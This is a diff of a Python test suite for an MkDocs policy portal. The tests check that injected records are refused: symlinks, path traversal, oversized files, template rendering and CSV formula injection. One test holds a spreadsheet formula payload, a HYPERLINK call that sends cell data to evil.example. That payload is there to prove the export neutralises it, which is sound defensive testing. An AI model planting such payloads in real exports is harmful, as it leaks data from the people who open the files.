@@ -9,6 +9,7 @@ notice if the build ever ran it.
 
 from __future__ import annotations
 
+import csv
 import os
 import re
 from concurrent.futures import ThreadPoolExecutor
@@ -17,9 +18,13 @@ from types import SimpleNamespace
 from urllib.parse import urlsplit
 
 import jinja2
+import pathspec
 import pytest
 import yaml
 from bs4 import BeautifulSoup
+from mkdocs.config import load_config
+from mkdocs.exceptions import PluginError
+from mkdocs.structure.files import get_files
 
 from conftest import ROOT, build, cli_in_process, copy_project
 from golden import INJECTION, INJECTION_REPORT, REGENERATE, add_injection, check
@@ -28,7 +33,11 @@ from macros.core import frontmatter
 from macros.core.files import confined
 from macros.core.frontmatter import read_file, read_source, split_front_matter
 from macros.core.messages import load_messages
-from macros.load.portal import collect_problems
+from macros.core.problems import ContentError
+from macros.load.portal import collect_problems, load_portal
+from macros.opendata.exports import policies_csv
+from macros.plugin import refuse_unsafe_files
+from macros.site.catalog import generated_pages
 
 FIXTURES = INJECTION
 EXPECTED = INJECTION_REPORT.expected()  # a golden file: `make golden` rewrites it from the current checker
@@ -44,6 +53,12 @@ def project_copy(project_copy):
     """The corpus' department folder exists even while no real record is filed there."""
     (project_copy / "docs" / "policies" / "renshe").mkdir(exist_ok=True)
     return project_copy
+
+
+@pytest.fixture
+def content_copy(content_copy):
+    (content_copy / "docs" / "policies" / "renshe").mkdir(exist_ok=True)
+    return content_copy
 
 
 def traces(marker: Path) -> list[Path]:
@@ -83,10 +98,10 @@ def test_the_yaml_tag_payload_would_run_with_an_unsafe_loader(tmp_path):
 # -- refused, with the clerk's message ----------------------------------------------------------
 
 
-def test_every_refused_record_gets_its_message_and_nothing_runs(project_copy, tmp_path):
+def test_every_refused_record_gets_its_message_and_nothing_runs(content_copy, tmp_path):
     marker = tmp_path / "ran"
-    add_injection(project_copy, "rejected", marker)
-    result = check(project_copy)
+    add_injection(content_copy, "rejected", marker)
+    result = check(content_copy)
     assert result.returncode == 1
     assert "Traceback" not in result.stdout + result.stderr
     assert result.stdout == EXPECTED, REGENERATE
@@ -118,10 +133,10 @@ def test_an_alias_bomb_and_extreme_nesting_are_refused_unexpanded():
     assert [p.message for p in problems] == ["嵌套层级太深（超过 6 层）；请按模板填写"]
 
 
-def test_an_oversized_record_is_refused(project_copy):
-    target = project_copy / "docs" / "policies" / "renshe" / "renshe-huge.md"
+def test_an_oversized_record_is_refused(content_copy):
+    target = content_copy / "docs" / "policies" / "renshe" / "renshe-huge.md"
     target.write_text(a_record("renshe-huge", "注入测试：超大文件", "很长的正文。" * 20_000), encoding="utf-8")
-    result = cli_in_process(project_copy, "check", str(target))
+    result = cli_in_process(content_copy, "check", str(target))
     assert result.returncode == 1
     size = target.stat().st_size // 1024
     expected = f"docs/policies/renshe/renshe-huge.md:1: 文件: 文件太大（{size} KB）；一条政策应不超过 256 KB"
@@ -159,10 +174,10 @@ def add_index_md_record(project: Path, marker: Path) -> Path:
     return target
 
 
-def test_a_record_may_not_take_the_name_of_a_rendered_index_page(project_copy, tmp_path):
+def test_a_record_may_not_take_the_name_of_a_rendered_index_page(content_copy, tmp_path):
     marker = tmp_path / "ran"
-    target = add_index_md_record(project_copy, marker)
-    result = cli_in_process(project_copy, "check", str(target))
+    target = add_index_md_record(content_copy, marker)
+    result = cli_in_process(content_copy, "check", str(target))
     assert ("docs/policies/renshe/index.md:1: 文件名: 政策文件不能叫“index.md”（这是栏目首页的保留文件名）"
             in result.stdout)
     assert traces(marker) == []
@@ -204,11 +219,11 @@ def test_read_file_never_follows_a_link_or_leaves_the_project(tmp_path):
         assert not confined(project, path) or message == "不是普通文件"
 
 
-def test_a_record_reached_through_a_symlink_is_refused(project_copy, tmp_path):
+def test_a_record_reached_through_a_symlink_is_refused(content_copy, tmp_path):
     outside = tmp_path / "renshe-outside.md"
     outside.write_text(a_record("renshe-outside", "外部文件的内容"), encoding="utf-8")
-    (project_copy / "docs" / "policies" / "renshe" / "renshe-outside.md").symlink_to(outside)
-    problems, _ = collect_problems(project_copy)
+    (content_copy / "docs" / "policies" / "renshe" / "renshe-outside.md").symlink_to(outside)
+    problems, _ = collect_problems(content_copy)
     assert [str(p) for p in problems] == [
         "docs/policies/renshe/renshe-outside.md:1: 文件位置: 政策文件（或它所在的文件夹）是符号链接（快捷方式），"
         "不会被读取；请提交文件本身，不要提交链接"]
@@ -227,12 +242,6 @@ def add_unsafe_files(project: Path, tmp_path: Path) -> None:
 @pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")  # what mkdocs-macros uses
 def test_the_plugin_refuses_files_a_department_folder_must_not_publish(project_copy, tmp_path):
     """The plugin's check on MkDocs' own file list (without a build; the build: the next test)."""
-    from mkdocs.config import load_config
-    from mkdocs.exceptions import PluginError
-    from mkdocs.structure.files import get_files
-
-    from macros.plugin import refuse_unsafe_files
-
     config = load_config(config_file=str(project_copy / "mkdocs.yml"))
     refuse_unsafe_files(get_files(config), config, load_messages(project_copy))  # the project as it is passes
     add_unsafe_files(project_copy, tmp_path)
@@ -260,20 +269,23 @@ def test_a_department_folder_publishes_nothing_but_its_records(project_copy, tmp
     assert "docs/policies/renshe/leak.txt: 是符号链接" in result.stdout + result.stderr
 
 
-def test_a_document_text_outside_data_is_never_read(project_copy, tmp_path):
-    from macros.core.problems import ContentError
-    from macros.load.portal import load_portal
-
+def test_a_document_text_outside_data_is_never_read(content_copy, tmp_path):
     secret = tmp_path / "secret.txt"
     secret.write_text("OUTSIDE-SECRET-7f3a\n", encoding="utf-8")
-    documents = project_copy / "data" / "documents.yml"
+    documents = content_copy / "data" / "documents.yml"
     text = documents.read_text(encoding="utf-8")
-    entry = yaml.safe_load(text)
-    report = next(d for d in entry if d.get("kind") != "law" and d.get("text_status") == "full")
-    outside = os.path.relpath(secret, project_copy / "data")
-    documents.write_text(text.replace(f"text: {report['text']}", f"text: {outside}"), encoding="utf-8")
-    with pytest.raises(ContentError):
-        load_portal(project_copy)
+    entries = yaml.safe_load(text)
+    report = next(d for d in entries if d.get("kind") != "law" and d.get("text_status") == "full")
+    outside = os.path.relpath(secret, content_copy / "data")
+    text = text.replace(f"text: {report['text']}", f"text: {outside}")
+    documents.write_text(text, encoding="utf-8")
+    with pytest.raises(ContentError) as refused:
+        load_portal(content_copy)
+    line = text.split("\n").index(f"  text: {outside}") + 1
+    assert [str(p) for p in refused.value.problems] == [
+        f"data/documents.yml:{line}: [{entries.index(report)}].text: “{outside}”不在 data/ 中或是符号链接；"
+        "全文必须放在 data/texts/ 中"]
+    assert "OUTSIDE-SECRET" not in str(refused.value)
 
 
 # -- inert: the build succeeds and nothing in the output is active ----------------------------
@@ -453,20 +465,13 @@ def test_portal_templates_cannot_reach_python_internals_or_files(sandbox_builds,
 
 
 @pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")  # what mkdocs-macros uses
-def test_no_generated_or_department_page_is_template_rendered():
+def test_no_generated_or_department_page_is_template_rendered(portal):
     """mkdocs-macros matches force_render_paths like .gitignore: ``index.md`` matches at any depth,
     so the generated catalog pages (which carry record values) and a record called index.md
     would be rendered by Jinja."""
-    import pathspec
-    from mkdocs.config import load_config
-
-    from macros.load.portal import load_portal
-    from macros.site.catalog import generated_pages
-
     config = load_config(str(ROOT / "mkdocs.yml"))
     rendered = config.plugins["macros"].config["force_render_paths"].splitlines()
     spec = pathspec.PathSpec.from_lines("gitwildmatch", rendered)
-    portal = load_portal(ROOT)
     untrusted = [page.src_uri for page in generated_pages(portal)] + [p.path for p in portal.policies]
     untrusted += ["policies/renshe/index.md"]
     assert [uri for uri in untrusted if spec.match_file(uri)] == []
@@ -476,18 +481,15 @@ def test_no_generated_or_department_page_is_template_rendered():
 # -- open data --------------------------------------------------------------------------------
 
 
-def test_csv_cells_cannot_start_a_spreadsheet_formula(project_copy):
+def test_csv_cells_cannot_start_a_spreadsheet_formula(content_copy):
     """api/policies.csv is opened in Excel/WPS by officials: a summary starting with = + - @
     would be run as a formula (HYPERLINK exfiltration, DDE)."""
-    from macros.load.portal import load_portal
-    from macros.opendata.exports import policies_csv
-
-    target = project_copy / "docs" / "policies" / "renshe" / "renshe-formula.md"
+    target = content_copy / "docs" / "policies" / "renshe" / "renshe-formula.md"
     text = a_record("renshe-formula", "注入测试：表格公式")
     formula = 'summary: \'=HYPERLINK("https://evil.example/?d="&A2,"点击查看详情")\''
     text = re.sub(r"^summary: .*$", formula, text, flags=re.M)
     target.write_text(text, encoding="utf-8")
-    rows = policies_csv(load_portal(project_copy)).lstrip("\ufeff").splitlines()
+    rows = policies_csv(load_portal(content_copy)).lstrip("\ufeff").splitlines()
     formula_row = next(r for r in rows if r.startswith("renshe-formula,"))
-    cells = next(__import__("csv").reader([formula_row]))
+    cells = next(csv.reader([formula_row]))
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
